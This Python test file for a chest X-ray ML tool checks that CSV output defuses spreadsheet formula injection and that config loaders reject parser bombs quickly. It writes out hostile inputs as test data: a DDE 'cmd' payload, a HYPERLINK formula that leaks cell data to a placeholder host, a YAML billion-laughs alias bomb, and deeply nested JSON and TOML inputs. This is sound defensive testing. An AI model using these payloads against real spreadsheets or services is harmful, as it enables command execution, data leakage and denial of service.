"""Texts from a stranger: no bomb stalls a reader, and no cell is a formula in a spreadsheet."""

from __future__ import annotations

import csv
import time
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from chestxray.artifacts import read_json, write_table
from chestxray.errors import ChestXrayError, RecipeError
from chestxray.evaluation import predictions
from chestxray.findings import Findings
from chestxray.reading.predictions_writer import PredictionsWriter, columns
from chestxray.serving.gateway import config
from chestxray.sources.table_columns import _read_settings
from chestxray.training import recipe as recipes

NAMES = [
    '=HYPERLINK("http://x/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "'=1",
    "''+1", "'quoted'.png", "plain.png", "-7", "a=b.png",
]  # fmt: skip
FORMULA = tuple("=+-@\t\r\n")


def cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as file:
        return [cell for row in csv.reader(file) for cell in row]


def number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def formulas(path: Path) -> list[str]:
    return [cell for cell in cells(path) if cell.startswith(FORMULA) and not number(cell)]


@pytest.fixture
def table() -> predictions.Predictions:
    return predictions.table(NAMES, np.full((len(NAMES), 1), 0.5), Findings(["Mass"]))


@pytest.mark.parametrize("suffix", [".csv", ".parquet", ".jsonl"])
def test_names_that_are_formulas_are_text_in_a_spreadsheet_and_read_back_as_they_are(
    table, tmp_path, suffix
):
    path = tmp_path / f"predictions{suffix}"
    predictions.write(path, table)
    names = predictions.read(path).rows["Image Index"].tolist()
    assert names == [name.strip() for name in NAMES]
    if suffix == ".csv":
        assert not formulas(path)
        assert "plain.png" in cells(path)
        assert "-7" in cells(path)


@pytest.mark.parametrize("suffix", [".csv", ".parquet", ".jsonl"])
def test_the_table_of_predict_has_no_formulas_either(tmp_path, suffix):
    out = tmp_path / f"predictions{suffix}"
    findings = Findings(["@cmd()"])
    rows = pd.DataFrame({name: [""] * len(NAMES) for name in columns(findings)})
    rows = rows.assign(**{"Image Index": NAMES, "prob_@cmd()": 0.5, "status": "ok"})
    rows = rows.assign(called="@cmd()", reason="=1+1")
    with PredictionsWriter(out, findings, "plan", "engine", None) as writer:
        writer.add(rows, np.empty((len(rows), 1, 0, 0), np.float16))
        writer.finish()
    read = predictions.read(out)
    assert read.rows["Image Index"].tolist() == [name.strip() for name in NAMES]
    assert read.called.all()
    if suffix == ".csv":
        assert not formulas(out)


def test_any_table_that_is_written_as_csv_has_no_formulas(tmp_path):
    write_table(tmp_path / "x.csv", pd.DataFrame({"patient": NAMES, "n": -1.5}))
    assert not formulas(tmp_path / "x.csv")


BOMB = "a0: &a0 [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 12)
)
YAML = {
    "aliases": BOMB + "name: *a11\n",
    "itself": "name: &a [*a]\n",
    "lists": "name: " + "[" * 100_000,
    "mappings": "name: " + "{a: " * 100_000,
    "blocks": "name:\n" + "\n".join(" " * i + "a:" for i in range(1, 900)),
    "digits": "name: " + "9" * 10_000,
    "a day that is none": "name: 2020-99-99",
    "length": "name: " + "[x, " * 10 + "x, " * 3_000_000 + "]" * 10,
}


def refused_at_once(read: Callable[[], object]) -> str:
    begin = time.process_time()
    with pytest.raises(ChestXrayError) as caught:
        read()
    assert time.process_time() - begin < 2
    assert len(str(caught.value)) < 1000
    return str(caught.value)


@pytest.mark.parametrize("bomb", YAML)
def test_a_recipe_that_is_a_bomb_is_refused_at_once(tmp_path, bomb):
    path = tmp_path / "recipe.yaml"
    path.write_text(YAML[bomb], encoding="utf-8")
    assert "recipe.yaml" in refused_at_once(lambda: recipes.load(path))


def test_an_override_that_is_a_bomb_is_refused_at_once():
    refused_at_once(lambda: recipes.load("quick", ["name=" + "[" * 100_000]))
    with pytest.raises(RecipeError, match="not valid YAML"):
        recipes.load("quick", ["name=&a [*a]"])


@pytest.mark.parametrize("bomb", YAML)
def test_settings_of_a_table_that_are_a_bomb_are_refused_at_once(tmp_path, bomb):
    path = tmp_path / "chestxray.yaml"
    path.write_text(YAML[bomb], encoding="utf-8")
    refused_at_once(lambda: _read_settings(path))


@pytest.mark.parametrize(
    "text",
    ["a = " + "[" * 100_000, "a = " + "{a=" * 100_000, ".".join("a" * 2_000) + " = 1",
     "[" + ".".join("a" * 2_000) + "]\n", "a = " + "9" * 10_000],
)  # fmt: skip
def test_a_configuration_that_is_a_bomb_is_refused_at_once(tmp_path, text):
    path = tmp_path / "gateway.toml"
    path.write_text(text, encoding="utf-8")
    assert "gateway.toml" in refused_at_once(lambda: config.load(path))


@pytest.mark.parametrize("text", ["[" * 100_000, '{"a":' * 100_000, '{"a": ' + "9" * 10_000 + "}"])
def test_json_without_end_is_refused_at_once(tmp_path, text):
    path = tmp_path / "x.json"
    path.write_text(text, encoding="utf-8")
    assert "x.json" in refused_at_once(lambda: read_json(path, "chestxray train"))
    lines = tmp_path / "x.jsonl"
    lines.write_text(text, encoding="utf-8")
    refused_at_once(lambda: predictions.read(lines))
    assert not predictions.is_table(lines)


def test_plain_yaml_is_read_as_before(tmp_path):
    path = tmp_path / "mine.yaml"
    path.write_text("seed: 3\naugment: {flip: 1}\nloss:\n  gamma: 1.5\n", encoding="utf-8")
    recipe = recipes.load(path)
    assert (recipe.seed, recipe.loss.gamma, recipe.name) == (3, 1.5, "mine")
